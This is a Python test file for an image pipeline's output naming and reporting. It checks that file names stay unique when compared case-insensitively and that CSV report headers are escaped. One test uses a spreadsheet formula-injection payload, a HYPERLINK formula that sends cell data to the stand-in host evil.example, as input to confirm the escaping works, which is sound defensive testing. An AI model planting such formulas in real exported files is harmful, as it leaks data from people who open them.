"""Output names are unique by construction, compared case-folded; report headers are escaped like values.

Review findings 8 (ids `a-line3`, `a`, `a` gave two rows one file; `A`/`a` collide on case-insensitive file
systems) and 19 (a pass-through column's *name* reached report.csv's header unescaped).
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from backdrop.pipeline.inputs import InputRow
from backdrop.pipeline.plan import output_names
from backdrop.report.table import RowOutcome, build_report, summarize, write_report

OUT = Path("/out")


def _rows(ids: list[str]) -> list[InputRow]:
    return [InputRow(line=i, row_id=row_id, image_url="a.jpg", prompt="p", template_id=None)
            for i, row_id in enumerate(ids, start=1)]


def _unique_casefolded(names: dict[int, Path]) -> bool:
    return len({str(p).casefold() for p in names.values()}) == len(names)


def test_a_suffixed_name_never_lands_on_another_rows_id() -> None:
    names = output_names(_rows(["a-line3", "a", "a"]), OUT)
    assert [p.name for p in names.values()] == ["a-line3.jpg", "a.jpg", "a-line3-2.jpg"]


def test_ids_differing_only_in_case_get_two_files() -> None:
    names = output_names(_rows(["Mug", "mug", "MUG", "mug-line2"]), OUT)
    assert _unique_casefolded(names)
    assert names[1].name == "Mug.jpg"  # the first keeps its own name


IDS = st.lists(
    st.one_of(st.sampled_from(["a", "A", "a-line2", "a-line3", "A-LINE3", "a-line3-2", "b", "..", "", "a/b", "a_b"]),
              st.from_regex(r"[aA](-line[0-9]{1,2}(-[0-9])?)?", fullmatch=True),
              st.text(max_size=12)),
    max_size=40,
)


@settings(max_examples=1000, deadline=None)
@given(ids=IDS)
def test_every_row_gets_its_own_file_case_folded(ids: list[str]) -> None:
    names = output_names(_rows(ids), OUT)
    assert set(names) == set(range(1, len(ids) + 1))
    assert _unique_casefolded(names)
    assert all(p.parent == OUT and p.suffix == ".jpg" and not p.name.startswith(".") for p in names.values())


def test_pass_through_column_names_are_escaped_in_report_csv(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A2,"click")'
    outcomes = [RowOutcome(line=1, row_id="a", input="a.jpg", prompt="p", template_id=None, status="succeeded",
                           extra={evil: "=1+1", "-2+3": "x", "sku": "S1"})]
    df = build_report(outcomes)
    write_report(df, summarize(df, unit_price=0.0, currency="USD", units_per_task=4), tmp_path)
    header = pd.read_csv(tmp_path / "report.csv").columns[-3:]
    assert list(header) == ["'" + evil, "'-2+3", "sku"]
    assert pd.read_csv(tmp_path / "report.csv")["'" + evil].iloc[0] == "'=1+1"
    assert list(pd.read_parquet(tmp_path / "report.parquet").columns[-3:]) == [evil, "-2+3", "sku"]  # raw
